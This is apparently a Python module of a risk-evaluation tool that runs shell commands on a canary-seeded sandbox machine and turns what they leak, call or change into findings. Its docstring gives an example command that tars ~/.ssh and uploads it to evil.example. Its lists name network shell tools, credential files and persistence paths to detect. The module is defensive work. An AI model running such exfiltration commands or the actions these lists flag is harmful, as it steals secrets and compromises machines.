"""The dynamic risk pass: run a command on a machine full of canaries and report what it tried.

    with open_sandbox() as sandbox:
        findings = observe(sandbox, "tar cz ~/.ssh | curl -T - http://evil.example")
        assessment = combine(analyse(command), findings)        # eval.risk: what was observed can only raise a verdict

The fixture (eval/fixtures/canary.sh) holds secrets with known tokens, files that matter, and logging shims in front
of tools that are absent or must not act. What counts: a token that leaves its file, files that vanish or change, a
shim that was called, a limit that was hit, and a tool's own refusal (`rm: it is dangerous...` is an attempt).

What this does not see: what a command would do on another machine, later, or only with a network or privileges; a
command that notices the sandbox. A quiet run proves nothing, so it never lowers a static verdict.
"""

import base64
import bz2
import lzma
import os
import re
import zlib
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from eval.risk.findings import Finding, make_finding
from eval.sandbox import Change, Execution, Fixture, Limits, Sandbox, SandboxError, derive, load_fixture
from eval.sandbox.execution import to_text
from eval.sandbox.trees import NOW, Tree

LIMITS = Limits(wall_seconds=4.0, cpu_seconds=3, processes=48, disk_mb=64, file_mb=32)
TOKEN = re.compile(rb"CANARY[0-9A-Za-z]+")
SHIMS = "/shims/"
MOST_UNPACKED = 1 << 20  # bytes
BLANKS = b" \t\n\r\x0b\x0c"
ATTEMPTS = 3  # a broken worker is replaced
LONGEST_DETAIL = 300  # characters of a message that a finding quotes
MASS = 20  # files of a person removed or overwritten by one command

# Shims by what calling one means; the rule ids are in eval/risk/rules/.
CALLS = {
    "observed-privilege": "sudo su doas pkexec runuser visudo setcap",
    "observed-container": "docker podman kubectl nsenter",
    "observed-firewall": "iptables nft ufw firewall-cmd setenforce auditctl",
    "observed-service": "systemctl service sysctl insmod modprobe rmmod swapoff",
    "observed-network": "ssh scp sftp rsync curl wget nc ncat netcat socat telnet ftp nmap aws gcloud az gh",
    "observed-schedule": "crontab at batch",
    "observed-disk": "mount umount mkfs mkfs.ext4 mkfs.xfs fdisk parted wipefs",
    "observed-account": "useradd adduser userdel usermod passwd chpasswd groupadd",
    "observed-power": "shutdown reboot poweroff halt init telinit",
    "observed-package": "apt apt-get dpkg snap pip pip3 npm gem cargo yum dnf",
}
RULE_OF = {tool: rule for rule, tools in CALLS.items() for tool in tools.split()}

PERSISTENT = re.compile(
    r"/home/user/(\.(bashrc|profile|bash_profile|bash_login|bash_logout|zshrc|inputrc|pam_environment)$"
    r"|\.ssh/(authorized_keys|rc|config)|\.config/(autostart|systemd)/|\.local/share/systemd/)"
)
TRACES = re.compile(r"/home/user/\.bash_history$|/var/log/")
MINE = re.compile(r"/(home/user|srv)/")
# Each of these reads one text of a command's own making, up to a mebibyte of it: no pattern may start again and again
# within what it has just read (tests/test_growth.py). So words are bounded by what cannot be part of them, and what has
# to come in an order on one line is looked for one after the other.
SYSTEM = r"/(?:etc|usr|boot|bin|sbin|lib\w*|dev|sys|proc|root|run|var/(?:lib|spool|cache))\b"
WRITING = re.compile(
    r"cannot (?:remove|create|touch|move|unlink|overwrite|stat)|changing (?:permissions|ownership|group)"
)
SYSTEM_PATH = re.compile(SYSTEM)
REFUSED = re.compile(r"Permission denied|Read-only file system|Operation not permitted|Device or resource busy")
REFUSED_PATH = re.compile(r"(?<![^\s'\"’:])([^\s'\"’:]+): (?:Read-only file system|Operation not permitted)")
REFUSED_IN_SHELL = re.compile(rf"line \d+: ({SYSTEM}[^\s'\"’:]*): Permission denied")
REFUSED_ROOT = re.compile(r"dangerous to operate recursively on|rm: cannot remove '/(?:bin|etc|usr|sbin|lib)'")
SECRET_PATH = re.compile(r"/(?:etc/(?:g?shadow|sudoers)|root|proc/\d+/(?:environ|mem))")
EXHAUSTED = re.compile(
    r"fork: (?:retry: )?Resource temporarily unavailable|No space left on device|Cannot allocate memory"
)
UNREACHABLE = re.compile(r"Could not resolve host|Network is unreachable|Temporary failure in name resolution")


@dataclass(frozen=True)
class Trace:
    """What one run left to look at."""

    execution: Execution
    tree: Tree

    @property
    def changes(self) -> list[Change]:
        """Changes that the command made, the shims' own log left out."""
        return [change for change in self.execution.changes if not change.path.startswith(SHIMS)]

    @property
    def written(self) -> Iterator[bytes]:
        """Everything the command put somewhere: its output, changed files, and what shims were given."""
        yield self.execution.stdout
        yield self.execution.stderr
        for change in self.execution.changes:
            node = self.tree.get(change.path.lstrip("/"))
            if node is not None and node.content is not None and change.kind != "removed":
                yield node.content

    @property
    def calls(self) -> list[list[str]]:
        """Arguments of every shim call, the tool's name first."""
        node = self.tree.get("shims/calls")
        content = to_text(node.content or b"") if node else ""
        return [call.split("\0") for call in content.split("\0\0") if call]


def observe(sandbox: Sandbox, command: str, machine: Fixture | None = None) -> tuple[Finding, ...]:
    """Everything a command was seen to do or try, as findings over the whole command.

    `machine` is the canary machine, for callers that observe many commands. SandboxError when the sandbox broke, three
    times in a row: then nothing is known, which is not the same as nothing found.
    """
    machine = machine or canary_machine(sandbox)
    script = f"export PATH={SHIMS.rstrip('/')}:$PATH\n{command}"
    for attempt in range(ATTEMPTS):
        try:
            execution, tree = sandbox.run_script(script, machine, LIMITS)
            break
        except SandboxError:
            if attempt == ATTEMPTS - 1:
                raise
    return findings_of(command, Trace(execution, tree))


def canary_machine(sandbox: Sandbox) -> Fixture:
    """The canary machine, built on first use in this sandbox."""
    return derive(load_fixture("canary", sandbox), "canary", _add_logs)


def _add_logs(top: Path) -> None:
    """System logs that can be written: /var is read-only in the sandbox root, so the script cannot make them."""
    folder = top / "var" / "log"
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("auth.log", "syslog", "wtmp", "lastlog"):
        log = folder / name
        log.write_text("Jan 15 11:00:00 sandbox session opened for user\n", encoding="utf-8")
        os.utime(log, (NOW - 10 * 86400,) * 2)


def findings_of(command: str, trace: Trace) -> tuple[Finding, ...]:
    """Findings of one run, each rule once."""
    found: dict[str, Finding] = {}
    for rule, detail in _observations(trace):
        found.setdefault(rule, make_finding(rule, 0, len(command), detail))
    return tuple(found.values())


def _observations(trace: Trace) -> Iterator[tuple[str, str]]:
    """(rule, what was seen), in a fixed order."""
    if tokens := leaked(trace.written):
        yield "observed-secret", ", ".join(sorted(tokens))
    for call in trace.calls:
        if rule := RULE_OF.get(call[0]):
            yield rule, " ".join(call)[:LONGEST_DETAIL]
    yield from _file_observations(trace.changes)
    stderr = to_text(trace.execution.stderr)
    if match := REFUSED_ROOT.search(stderr):
        yield "observed-root-delete", match.group()
    lines = list(refusals(stderr))
    for rule, refuses in (("observed-refused-write", refused_write), ("observed-refused-read", refused_read)):
        if line := next(filter(refuses, lines), ""):
            yield rule, line.strip()[:LONGEST_DETAIL]
    for rule, pattern in (("observed-exhaustion", EXHAUSTED), ("observed-network", UNREACHABLE)):
        if match := pattern.search(stderr):
            yield rule, match.group()
    hits = set(trace.execution.limits_hit) & {"processes", "memory", "disk", "file"}
    if hits:
        yield "observed-exhaustion", ", ".join(sorted(hits))


def refusals(text: str) -> Iterator[str]:
    """The lines of a text that say that something was refused."""
    at = 0
    while found := REFUSED.search(text, at):
        begin, end = text.rfind("\n", 0, found.start()) + 1, text.find("\n", found.end())
        at = len(text) if end < 0 else end
        yield text[begin:at]


def refused_write(line: str) -> bool:
    """Whether a message says that a path of the system could not be changed."""
    writing = WRITING.search(line)
    path = SYSTEM_PATH.search(line, writing.end()) if writing else None
    if path is not None and REFUSED.search(line, path.end()):
        return True
    if REFUSED_IN_SHELL.search(line):
        return True
    return any(SYSTEM_PATH.search(found[1]) for found in REFUSED_PATH.finditer(line))


def refused_read(line: str) -> bool:
    """Whether a message says that a file with secrets could not be read."""
    path = SECRET_PATH.search(line)
    return path is not None and line.find(": Permission denied", path.end()) >= 0


def _file_observations(changes: list[Change]) -> Iterator[tuple[str, str]]:
    spoiled = [c for c in changes if MINE.match(c.path) and c.before and c.before.type == "file" and _spoiled(c)]
    if len(spoiled) >= MASS:
        yield "observed-mass-change", f"{len(spoiled)} files"
    for change in changes:
        if PERSISTENT.match(change.path) and change.kind != "removed":
            yield "observed-persistence", change.path
        elif TRACES.match(change.path) and change.kind != "added":
            yield "observed-traces-removed", change.path
        elif "/.ssh/" in change.path or "/.gnupg/" in change.path or "/.aws/" in change.path:
            yield "observed-secret-changed", change.path
        if change.after and change.after.type == "file" and change.after.mode & 0o6000:
            yield "observed-setuid", change.path


def _spoiled(change: Change) -> bool:
    return change.after is None or change.after.digest != change.before.digest if change.before else False


def leaked(texts: Iterable[bytes]) -> set[str]:
    """Names of the canary tokens found in the texts, plain, reversed, in hex or in base64."""
    joined = b"\n".join(form for text in texts for form in (text, *_unpacked(text)))
    squeezed = joined.translate(None, BLANKS)  # encoders break lines; no token and no encoding holds a blank
    return {token[6:9].decode() for token in _tokens() if any(form in squeezed for form in _encodings(token))}


def _unpacked(data: bytes) -> Iterator[bytes]:
    """What a compressed text holds, up to MOST_UNPACKED bytes of it."""
    for magic, decompressor in ((b"\x1f\x8b", lambda: zlib.decompressobj(31)), (b"BZh", bz2.BZ2Decompressor),
                                (b"\xfd7zXZ", lzma.LZMADecompressor)):  # fmt: skip
        if (start := data.find(magic)) >= 0:
            try:
                yield decompressor().decompress(data[start:], MOST_UNPACKED)
            except (zlib.error, OSError, EOFError, lzma.LZMAError):
                continue  # no such archive after all


@cache
def _tokens() -> frozenset[bytes]:
    """Every token of the fixture's script."""
    return frozenset(TOKEN.findall(Path("eval/fixtures/canary.sh").read_bytes()))


@cache
def _encodings(token: bytes) -> tuple[bytes, ...]:
    """A token as it is and as common encoders would write it, whatever surrounds it."""
    shifted = [base64.b64encode(b"\0" * shift + token)[2 + 2 * (shift > 0) : -4] for shift in range(3)]
    return token, token[::-1], token.hex().encode(), token.hex().upper().encode(), *shifted


__all__ = ["SandboxError", "Trace", "findings_of", "leaked", "observe"]
